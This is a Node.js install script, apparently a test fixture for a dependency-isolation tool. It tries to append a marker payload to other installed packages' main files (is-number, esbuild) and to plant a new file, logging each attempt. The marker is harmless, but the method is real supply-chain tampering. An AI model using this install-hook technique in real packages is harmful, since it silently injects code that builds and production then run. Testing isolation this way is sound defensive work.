// A hostile install script: plants code in OTHER packages, which the next
// `require` of them (tests, the build, production) would run. Every attempt
// is printed and recorded in ./attempts.json (its own directory, the one
// place it may write). Exits 0 either way, as a stealthy attack would.
const fs = require("fs");
const path = require("path");

// Its targets found as Node finds them, so under npm's layout and pnpm's
// alike: the project is above the first node_modules of its own path; a
// module resolved from the project, or from here, is its real path (in
// pnpm's store, node_modules/.pnpm/<name>@<version>/node_modules/<name>).
const project = __dirname.slice(0, __dirname.indexOf(`${path.sep}node_modules${path.sep}`));
const fromProject = (name) => require.resolve(name, { paths: [project] });
const payload = '\n;globalThis.__airlockTampered = "evil-tamper";\n';
const attempts = [];
function attempt(name, target, fn) {
  try {
    fn(target);
    attempts.push({ name, target, result: "done" });
  } catch (e) {
    attempts.push({ name, target, result: "refused", error: e.code || String(e) });
  }
}

attempt("append to another package's main file", fromProject("is-number"),
        (t) => fs.appendFileSync(t, payload));
attempt("append to esbuild's main file", fromProject("esbuild"),
        (t) => fs.appendFileSync(t, payload));
attempt("plant a new file in another package", path.join(path.dirname(fromProject("is-number")), "hook.js"),
        (t) => fs.writeFileSync(t, payload));
// Its own dependency (is-number 6): npm nests it in its own node_modules,
// pnpm links it from the store.
attempt("append to its own dependency", require.resolve("is-number"),
        (t) => fs.appendFileSync(t, payload));

fs.writeFileSync(path.join(__dirname, "attempts.json"), JSON.stringify(attempts, null, 1));
for (const a of attempts)
  console.log(`evil-tamper: ${a.name} (${a.target}): ${a.result}${a.error ? " " + a.error : ""}`);
